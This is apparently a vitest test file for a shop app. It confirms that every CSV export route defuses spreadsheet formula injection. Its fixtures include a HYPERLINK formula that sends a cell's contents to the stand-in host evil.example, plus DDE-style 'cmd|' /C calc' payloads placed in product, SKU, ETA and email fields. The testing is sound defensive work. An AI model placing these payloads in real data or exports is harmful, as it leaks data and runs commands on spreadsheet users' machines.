import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../web/server/csv/read-csv.ts";
import { FORMULA_START } from "../../web/server/csv/write-csv.ts";
import { reportFaultRow } from "./support/fault-row.ts";
import { listApiRoutes } from "./support/fuzz-support.ts";
import { startFaultStack, type FaultStack, type StackShop } from "./support/start-fault-stack.ts";

// What a merchant's staff, a supplier feed or a shopper can put in the cells of an export.
const HOSTILE = {
  productTitle: '=HYPERLINK("https://evil.example/?leak="&A1,"Parka")',
  variantTitle: "+SUM(1,2)",
  sku: "@SUM(1+1)*cmd|' /C calc'!A0",
  etaMessage: "-2+3+cmd|' /C calc'!A0",
  email: "=1+1@evil.example",
};
const NUMBER = /^-?\d+(\.\d+)?$/;

let stack: FaultStack;
let shop: StackShop;
let variantId = 0n;
beforeAll(async () => {
  stack = await startFaultStack({ name: "csv-injection", workers: 1 });
  shop = await stack.installShop("Csv Shop", (s) => {
    variantId = stack.sim.createProduct(s.domain, {
      title: HOSTILE.productTitle,
      variants: [
        {
          title: HOSTILE.variantTitle,
          sku: HOSTILE.sku,
          price: "80.00",
          inventoryPolicy: "CONTINUE",
          inventory: 0,
        },
      ],
    }).variants[0]!.id;
  });
});
afterAll(() => stack?.close());

const api = async (path: string, init: { method?: string; json?: unknown } = {}) => {
  const token = await stack.sim.mintSessionToken({ shop: shop.domain });
  return fetch(`${stack.webUrl}/api${path}`, {
    method: init.method ?? "GET",
    headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" },
    body: init.json === undefined ? undefined : JSON.stringify(init.json),
  });
};

describe("CSV exports", () => {
  it("hostile values in every export: no cell starts with a formula character", async ({ task }) => {
    // A backorder (the order drives stock negative), an ETA message and a subscriber.
    stack.sim.placeOrder(shop.domain, {
      email: "buyer@example.com",
      lines: [{ variantId, quantity: 2 }],
    });
    await stack.settleAll();
    const eta = await api(`/etas/${variantId}`, {
      method: "PUT",
      json: { eta: "2031-01-15", message: HOSTILE.etaMessage },
    });
    expect(eta.status).toBe(200);
    await stack.db.subscription.create({
      data: {
        shopId: shop.id,
        variantId,
        email: HOSTILE.email,
        status: "ACTIVE",
        activeKey: `${variantId}:${HOSTILE.email}`,
        confirmToken: "csv-confirm-token-00000000000000",
        unsubscribeToken: "csv-unsub-token-000000000000000",
      },
    });

    // Every CSV route the app serves, found from its routers: a new export is scanned too.
    const exports = listApiRoutes(stack).filter((r) => r.method === "GET" && r.path.endsWith(".csv"));
    const scanned: Record<string, { cells: number; defused: number; formulas: string[] }> = {};
    let fiveXx = 0;
    for (const route of exports) {
      const res = await api(route.path);
      if (res.status >= 500) fiveXx += 1;
      const parsed = parseCsv(await res.text(), { raw: true });
      if (!parsed.ok) throw new Error(`${route.path}: ${parsed.message}`);
      const cells = parsed.records.slice(1).flat();
      scanned[route.path] = {
        cells: cells.length,
        defused: cells.filter((c) => c.startsWith("'") && FORMULA_START.test(c.slice(1))).length,
        formulas: cells.filter((c) => FORMULA_START.test(c) && !NUMBER.test(c)),
      };
    }
    const formulas = Object.values(scanned).flatMap((s) => s.formulas);
    reportFaultRow(task, {
      test: "19.5 CSV formula injection",
      events: Object.values(scanned).reduce((n, s) => n + s.cells, 0),
      lost: 0,
      duplicates: 0,
      fiveXx,
      note:
        `${exports.length} exports; ` +
        Object.entries(scanned)
          .map(
            ([path, s]) => `${path}: ${s.cells} cells, ${s.defused} defused, ${s.formulas.length} formulas`,
          )
          .join("; "),
    });
    expect(exports.map((r) => r.path).sort()).toEqual(
      expect.arrayContaining([
        "/backorders/export.csv",
        "/etas/export.csv",
        "/subscriptions/export.csv",
        "/subscriptions/purchasing.csv",
      ]),
    );
    expect(fiveXx).toBe(0);
    expect(formulas).toEqual([]);
    // The hostile values did reach each export (the scan is not of empty files).
    for (const [path, s] of Object.entries(scanned)) expect([path, s.defused > 0]).toEqual([path, true]);
  });
});
